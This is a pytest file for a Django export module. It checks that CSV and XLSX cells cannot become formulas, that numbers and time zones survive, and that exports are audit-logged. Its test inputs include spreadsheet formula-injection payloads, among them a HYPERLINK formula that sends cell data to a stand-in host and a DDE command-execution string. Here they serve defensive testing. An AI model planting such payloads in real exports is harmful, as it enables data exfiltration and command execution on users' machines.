"""No cell of an export is a formula, numbers stay numbers, and every export leaves its trace."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.http import StreamingHttpResponse
from python_calamine import CalamineWorkbook

from audit.models import Entry
from core.errors import Invalid
from core.exports import XLSX_ROWS_MAX, Column, export_response
from core.scope import activate
from tests.world import World

TRIGGERS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "%0A",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "  =1+1",
    "\u3000＝1+1",
    '"=1+1',
    "'=1+1",
    "“＝1+1",
    "\u200b=1+1",
    "-5",
    "+8613800001111",
    "=cmd|' /C calc'!A0",
]
COLUMNS = [Column("Text"), Column("=Head"), Column("Seen", zone="Asia/Shanghai"), Column("Day")]
MOMENT = datetime(2026, 6, 15, 12, 0, 5, tzinfo=UTC)


def export(world: World, rows: Sequence[Sequence[Any]], file_format: str, columns: Any = COLUMNS) -> bytes:
    scope = world.scope("programme_manager")
    with activate(scope):
        response = export_response(
            scope=scope,
            file_format=file_format,
            name="agents",
            columns=columns,
            rows=lambda: rows,
            count=len(rows),
            about={"State": "=active"},
            filters={"is_active": "true"},
        )
        assert response["Content-Disposition"] == f'attachment; filename="agents-20260615-1200.{file_format}"'
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response.streaming
        assert isinstance(response, StreamingHttpResponse)
        body = b"".join(response)
        # Not response.close(), which ends the request and with it the test's connection.
        for close in response._resource_closers:  # type: ignore[attr-defined]
            close()
    return body


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", TRIGGERS)
def test_no_csv_cell_is_a_formula(world: World, text: str) -> None:
    head, row = csv_rows(export(world, [[text, 1, MOMENT, None]], "csv"))
    assert row[0] == f"'{text}"
    assert head == ["Text", "'=Head", "Seen (Asia/Shanghai)", "Day"]


def test_a_moment_whose_column_has_no_zone_keeps_its_offset(world: World) -> None:
    local = MOMENT.astimezone(ZoneInfo("Asia/Kathmandu"))
    body = export(world, [[local]], "xlsx", [Column("Offered")])
    [_head, [cell]] = CalamineWorkbook.from_filelike(io.BytesIO(body)).get_sheet_by_index(0).to_python()
    assert cell == local.isoformat(sep=" ", timespec="seconds")
    assert str(cell).endswith("+05:45")


def test_no_xlsx_cell_is_a_formula(world: World) -> None:
    body = export(world, [[text, -1, MOMENT, date(2026, 6, 15)] for text in TRIGGERS], "xlsx")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2
    assert not any("<f>" in sheet or "<hyperlink" in sheet for sheet in sheets)
    head, *rows = CalamineWorkbook.from_filelike(io.BytesIO(body)).get_sheet_by_index(0).to_python()
    assert head[1] == "'=Head"
    assert [row[0] for row in rows] == [f"'{text}" for text in TRIGGERS]
    assert {row[1] for row in rows} == {-1.0}


def test_numbers_stay_numbers(world: World) -> None:
    values = [-5, 0.8134, Decimal("1E+3"), Decimal("-0.10"), True, None, float("nan"), Decimal("Infinity")]
    columns = [Column(f"c{n}", number_format="0.0%" if n == 1 else "") for n in range(len(values))]
    _head, row = csv_rows(export(world, [values], "csv", columns))
    assert row == ["-5", "0.8134", "1000", "-0.10", "true", "", "", ""]
    book = CalamineWorkbook.from_filelike(io.BytesIO(export(world, [values], "xlsx", columns)))
    cells = book.get_sheet_by_index(0).to_python()[1]
    assert cells[:5] == [-5.0, 0.8134, 1000.0, -0.1, True]
    assert cells[5:] == [""] * len(cells[5:])


def test_moments_carry_their_offset_and_the_head_their_zone(world: World) -> None:
    row = ["name", 1, MOMENT, date(2026, 6, 15)]
    assert csv_rows(export(world, [row], "csv"))[1][2:] == ["2026-06-15T20:00:05+08:00", "2026-06-15"]
    book = CalamineWorkbook.from_filelike(io.BytesIO(export(world, [row], "xlsx")))
    head, cells = book.get_sheet_by_index(0).to_python()
    assert head[2] == "Seen (Asia/Shanghai)"
    assert cells[2:] == [datetime(2026, 6, 15, 20, 0, 5), date(2026, 6, 15)]  # noqa: DTZ001 (cells have no zone)


def test_hard_text_survives_or_is_cut(world: World) -> None:
    row = ["王\ud800\x00", 'a "quoted", line\nbreak', None, "x" * 40_000]
    columns = [Column(str(n)) for n in range(4)]
    assert csv_rows(export(world, [row], "csv", columns))[1][1] == row[1]
    book = CalamineWorkbook.from_filelike(io.BytesIO(export(world, [row], "xlsx", columns)))
    assert len(str(book.get_sheet_by_index(0).to_python()[1][3])) == 32_767


def test_second_sheet_says_what_was_exported(world: World) -> None:
    book = CalamineWorkbook.from_filelike(io.BytesIO(export(world, [], "xlsx")))
    about = {row[0]: row[1] for row in book.get_sheet_by_index(1).to_python()}
    assert about["State"] == "'=active"
    assert about["Exported by"] == "programme_manager"
    assert about["Exported at"] == "2026-06-15T12:00:00+00:00"


def test_every_export_is_in_the_book(world: World) -> None:
    export(world, [["a", 1, MOMENT, None]] * 3, "csv")
    scope = world.scope("programme_manager")
    with activate(scope):
        entry = Entry.objects.visible_to(scope).get(action="export.made")
    assert entry.object_label == "agents"
    assert entry.changes == {"format": "csv", "rows": 3, "filters": {"is_active": "true"}}


@pytest.mark.parametrize(("file_format", "count"), [("pdf", 1), ("xlsx", XLSX_ROWS_MAX + 1)])
def test_what_cannot_be_written_is_refused_and_not_recorded(world: World, file_format: str, count: int) -> None:
    scope = world.scope("programme_manager")
    with activate(scope):
        with pytest.raises(Invalid):
            export_response(scope=scope, file_format=file_format, name="x", columns=COLUMNS, rows=list, count=count)
        assert not Entry.objects.visible_to(scope).filter(action="export.made").exists()
